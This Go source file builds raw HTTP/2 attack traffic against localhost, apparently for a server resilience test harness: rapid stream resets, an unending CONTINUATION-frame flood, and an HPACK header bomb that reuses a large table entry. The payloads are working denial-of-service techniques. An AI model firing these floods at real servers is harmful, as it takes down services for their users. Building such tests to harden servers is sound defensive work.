package strangers

import (
	"encoding/binary"
	"strings"
)

// The frames of HTTP/2 that attacks are made of.
const (
	headers      = 1
	reset        = 3
	settings     = 4
	ping         = 6
	continuation = 9
)

// The flags of a frame with headers.
const (
	endStream  = 1
	endHeaders = 4

	unended = 1 << 8 // of request: a body follows
)

// The settings with which an attacker begins: the window of its streams.
var window, noWindow = setting(4, 65535), setting(4, 0)

func setting(id uint16, value uint32) string {
	return string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), value))
}

func frame(kind, flags byte, stream uint32, payload []byte) string {
	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return string(append(binary.BigEndian.AppendUint32(b, stream), payload...))
}

// overHTTP2 connects n times and sends frames. Those of streams get the next stream each.
func overHTTP2(n int, opening string, frames ...string) func(*attacker) {
	return func(a *attacker) {
		for range n {
			c := a.dial()
			if c == nil {
				return
			}
			a.send(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+frame(settings, 0, 0, []byte(opening)))
			id := uint32(1)
			var numbered strings.Builder
			var parts []string
			for _, f := range frames {
				numbered.WriteString(number(f, &id))
				if numbered.Len() > 16<<10 {
					parts = append(parts, numbered.String())
					numbered.Reset()
				}
			}
			a.send(c, append(parts, numbered.String())...)
		}
	}
}

// number sets the stream of frames: stream 1 stands for a new one, and stream 3 for the last one.
func number(frames string, id *uint32) string {
	b := []byte(frames)
	for at := 0; at < len(b); {
		size := int(b[at])<<16 | int(b[at+1])<<8 | int(b[at+2])
		switch stream := b[at+5 : at+9]; binary.BigEndian.Uint32(stream) {
		case 1:
			binary.BigEndian.PutUint32(stream, *id)
			*id += 2
		case 3:
			binary.BigEndian.PutUint32(stream, *id-2)
		}
		at += 9 + size
	}
	return string(b)
}

// request is a POST with further headers, as a frame of a new stream.
func request(flags int, more ...string) string {
	b := []byte{0x83, 0x86, 0x84, 0x01} // POST, http, /, and the name :authority
	b = text(b, "localhost")
	for _, s := range more {
		if len(b) > 0 && more[0] == s {
			b = append(b, 0) // a name that is not in the tables
		}
		b = text(b, s)
	}
	if flags&unended != 0 {
		return frame(headers, endHeaders, 1, b)
	}
	return frame(headers, endHeaders|endStream, 1, b)
}

// text appends a text of less than 127 bytes, or of 127 to 16510.
func text(b []byte, s string) []byte {
	if len(s) < 127 {
		return append(append(b, byte(len(s))), s...)
	}
	rest := len(s) - 127
	return append(append(b, 127, byte(rest&127|128), byte(rest>>7)), s...)
}

// longRequests are n requests of 100 KB, of which each names one entry of the table 30 times.
func longRequests(n int) []string {
	entry := text(text([]byte{0x40}, "x"), strings.Repeat("x", 3400))
	first := append([]byte{0x83, 0x86, 0x84, 0x01}, text(nil, "localhost")...)
	again := append([]byte{}, first...)
	for range 30 {
		again = append(again, 0xbe) // the newest entry
	}
	all := []string{frame(headers, endHeaders|endStream, 1, append(first, entry...))}
	return append(all, repeat(frame(headers, endHeaders|endStream, 1, again), n)...)
}

// resets are n requests that are taken back at once.
func resets(n int) []string {
	return repeat(request(unended)+frame(reset, 0, 3, []byte{0, 0, 0, 8}), n)
}

// continuations are headers that go on in n further frames and do not end.
func continuations(n int) []string {
	open := frame(headers, 0, 1, []byte{0x83, 0x86, 0x84})
	more := text(text([]byte{0}, "x"), strings.Repeat("x", 1000))
	return append([]string{open}, repeat(frame(continuation, 0, 3, more), n)...)
}
